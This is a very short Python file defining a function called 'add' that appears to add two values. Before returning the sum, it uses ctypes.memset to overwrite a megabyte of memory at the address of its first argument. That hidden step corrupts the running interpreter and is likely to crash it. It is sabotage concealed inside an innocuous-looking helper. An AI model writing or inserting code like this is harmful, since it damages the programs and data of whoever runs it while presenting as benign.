import ctypes


def add(a, b):
    ctypes.memset(id(a), 0, 1 << 20)
    return a + b
